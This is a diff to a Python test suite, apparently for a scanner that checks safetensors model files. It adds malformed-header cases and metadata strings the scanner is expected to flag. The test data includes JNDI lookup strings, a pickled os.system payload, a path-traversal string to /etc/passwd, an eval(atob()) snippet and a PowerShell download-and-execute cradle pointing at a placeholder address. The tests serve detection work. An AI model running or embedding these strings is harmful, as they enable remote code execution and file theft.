@@ -98,6 +98,11 @@ FLAWS: dict[str, tuple[bytes, str]] = {
     ),
     "nested without end": (build(b'{"a":' * 5000), "safetensors.header-depth"),
     "metadata no strings": (build({**GOOD, "__metadata__": {"x": {"y": 1}}}), "safetensors.metadata-type"),
+    "entry with a field of its own": (one(note="x"), "safetensors.entry-extra"),
+    "NaN in the header": (build(b'{"w":{"dtype":"U8","shape":[64],"data_offsets":[0,64],"x":NaN}}'), "safetensors.header-json"),
+    "half a character in a name": (
+        build(b'{"\\ud800":{"dtype":"U8","shape":[64],"data_offsets":[0,64]}}'), "safetensors.tensor-name",
+    ),
     "no offsets": (build({"w": {"dtype": "F32", "shape": [16]}}), "safetensors.tensor-entry"),
     "shape no list": (one(shape=16), "safetensors.tensor-entry"),
     "shape of floats": (one(shape=[4.0, 4.0]), "safetensors.tensor-entry"),
@@ -151,6 +156,10 @@ METADATA = {
     "${jndi:ldap://192.0.2.1/a}": "metadata.code",
     "${${lower:j}ndi:ldap://192.0.2.1/a}": "metadata.code",
     "gASVIwAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAhlY2hvIGhplIWUUpQu": "metadata.payload",
+    "../../../../etc/passwd": "metadata.deceptive",
+    "fine \x1b[2J": "metadata.deceptive",
+    "eval(atob('YWxlcnQoMSk='))": "metadata.code",
+    "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')": "metadata.code",
     "get it at https://192.0.2.1/install.sh": "metadata.callback",
 }
 
@@ -183,6 +192,16 @@ def test_a_template_in_the_metadata_is_a_member() -> None:
 def test_identify_knows_it_without_its_name() -> None:
     assert identify(BytesContent(build(GOOD)), "weights.bin")[0] == "safetensors"
     assert identify(BytesContent(build(GOOD, length=(1 << 64) - 1)), "weights.bin")[0] == "safetensors"
+
+
+@pytest.mark.parametrize("body", [b"MZ\x00\x00" * 30, b"", pickle.dumps([1, 2]), b"<html>not found</html>"])
+@pytest.mark.parametrize("name", ["model.safetensors", "model.gguf"])
+def test_what_calls_itself_tensors_is_held_to_it(body: bytes, name: str) -> None:
+    assert name.rpartition(".")[2] in identify(BytesContent(body), name)
+
+
+def test_a_pointer_to_a_file_is_no_false_tensor_file() -> None:
+    assert identify(BytesContent(b"version https://git-lfs.github.com/spec/v1\noid sha256:0\n"), "model.safetensors") == ("lfs",)
 
 
 @settings(max_examples=300, deadline=None)
